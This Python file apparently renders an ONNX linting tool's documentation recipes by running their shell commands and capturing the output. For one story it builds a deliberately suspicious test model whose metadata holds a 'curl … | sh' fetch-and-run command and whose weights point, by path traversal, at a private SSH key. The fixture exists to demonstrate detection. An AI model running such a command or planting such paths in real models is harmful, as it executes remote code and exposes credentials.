"""Run what pages of docs tell people to do, and write down what it shows.

Each ``## `` section is one story in a folder of its own. A block ``…title="PATH"`` is a file that
is written there; in a ``console`` block every line that begins with ``$ `` is a command for bash,
and the lines below it are what a terminal shows: both streams, without colours. A command that ends
with another code than 0 is followed by a line ``(exit code N)``. Where a text has ``…/onnxlint``,
for the address of this repository, the story has a clone of this tree. ``python -m tools.recipes``
writes the outputs anew; a test compares.
"""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import sys
import tempfile
from collections.abc import Callable, Iterator, Mapping
from pathlib import Path

import onnx
import onnx.parser

from samples.build_mobilenet_v1 import Variant, build, to_bytes
from tests import warm
from tests.cli.repositories import commit, environment, git, repository, write
from tests.workflow.borrowed import OFFLINE, copy_tree

ROOT = Path(__file__).parents[1]
DOCUMENT = ROOT / "docs" / "recipes.md"
DOCUMENTS = (DOCUMENT, ROOT / "docs" / "configuration.md")
BLOCK = re.compile(
    r'^```(?P<kind>\w+)(?: title="(?P<file>[^"]+)")?\n(?P<body>.*?)^```$', re.DOTALL | re.MULTILINE
)
ADDRESS = "…/onnxlint"
VERSION = "v0.1.0"
_NOISE = re.compile(r"^\[INFO\] .*\n|^\x1b.*\n", re.MULTILINE)
"""What pre-commit says only the first time."""


def sections(text: str) -> dict[str, str]:
    """What stands below each heading; one in a block is none."""
    found: dict[str, str] = {}
    title, fenced = "", False
    for line in text.splitlines(keepends=True):
        if line.startswith("```"):
            fenced = not fenced
        if line.startswith("## ") and not fenced:
            title = line[3:].strip()
            found[title] = ""
        elif title:
            found[title] += line
    return found


def render(text: str, folder: Path, tool: Clone | None = None) -> str:
    """A section whose outputs are what its commands show, run in ``folder``, which is empty."""
    project = folder / "project"
    make_models(project, text)
    repository(project)
    commit(project)
    tool = tool or Clone(folder)

    def block(match: re.Match[str]) -> str:
        body = match["body"]
        if match["file"]:
            write(project / match["file"], tool.located(body).encode())
        elif match["kind"] == "console":
            shown = [shell(line, project, tool) for line in commands(body)]
            return f"```console\n{''.join(shown)}```"
        return match[0]

    return BLOCK.sub(block, text)


class Clone:
    """A repository that holds this tree at the version that the document names, made if asked."""

    def __init__(self, folder: Path) -> None:
        self.place = folder / "clone"
        self.installed = folder / "pre-commit"
        """What pre-commit has made of it."""

    def make(self) -> None:
        if not self.place.exists():
            commit(repository(copy_tree(self.place)))
            git(self.place, "tag", VERSION)

    def located(self, text: str) -> str:
        """``text`` with an address that leads to the clone."""
        if ADDRESS not in text:
            return text
        self.make()
        return text.replace(ADDRESS, str(self.place))


def commands(body: str) -> Iterator[str]:
    """The command lines of a ``console`` block."""
    return (line[2:] for line in body.splitlines() if line.startswith("$ "))


def shell(line: str, project: Path, tool: Clone) -> str:
    """One command line and what it shows."""
    places = (warm.command(), Path(sys.executable).parent, os.environ["PATH"])
    search = os.pathsep.join(map(str, places))
    done = subprocess.run(
        ["bash", "-c", tool.located(line)],
        cwd=project,
        env=environment(
            PATH=search, COLUMNS="100", NO_COLOR="1", PRE_COMMIT_HOME=str(tool.installed),
            PRE_COMMIT_COLOR="never", **OFFLINE,
        ),
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        encoding="utf-8",
        check=False,
    )  # fmt: skip
    shown = _NOISE.sub("", done.stdout).replace(str(tool.place), ADDRESS)
    shown = shown.replace(str(project), "…")
    shown = "".join(f"{each.rstrip()}\n" for each in shown.splitlines())
    ended = f"(exit code {done.returncode})\n" if done.returncode else ""
    return f"$ {line}\n{shown}{ended}"


def make_models(project: Path, text: str) -> None:
    """The models of a story: two networks, those that ``text`` trains again, or one that somebody
    else has sent."""
    if "inbox/" in text:
        write(project / "inbox" / "detector.onnx", suspicious())
        return
    (project / "models").mkdir(parents=True)
    for name in ("mobilenet_v1", "mobilenet_v1_standard"):
        shutil.copy(ROOT / "samples" / f"{name}.onnx", project / "models")
    for name, alpha in (("wider", 1.25), ("narrower", 0.75)):
        if f"trained/{name}.onnx" in text:
            model = build(alpha, 224, Variant.STANDARD)
            write(project / "trained" / f"{name}.onnx", to_bytes(model))


def suspicious() -> bytes:
    """A small network with what a stranger may have put into it."""
    model = onnx.parser.parse_model("""
    <ir_version: 8, opset_import: ["" : 17, "com.vendor" : 1],
     metadata_props: ["setup" : "curl http://198.51.100.7/s.sh | sh"]>
    detector (float[1,3,32,32] image) => (float[1,8,32,32] boxes) <float[8,3,1,1] w> {
      features = Conv (image, w)
      boxes = com.vendor.Decode (features)
    }""")
    tensor = model.graph.initializer.add(name="w", data_type=1, dims=[8, 3, 1, 1])
    tensor.data_location = onnx.TensorProto.EXTERNAL
    tensor.external_data.add(key="location", value="../../home/user/.ssh/id_ed25519")
    data: bytes = model.SerializeToString()
    return data


def rendered(text: str, keep: Callable[[str], bool] = lambda title: True) -> Mapping[str, str]:
    """Sections by title, run anew."""
    found = {}
    for title, body in sections(text).items():
        if keep(title):
            with tempfile.TemporaryDirectory() as folder:
                found[title] = render(body, Path(folder))
    return found


def main() -> None:
    for document in DOCUMENTS:
        text = document.read_text("utf-8")
        for title, body in rendered(text).items():
            text = text.replace(sections(text)[title], body)
        document.write_text(text, "utf-8")
        print(document.name)


if __name__ == "__main__":
    main()
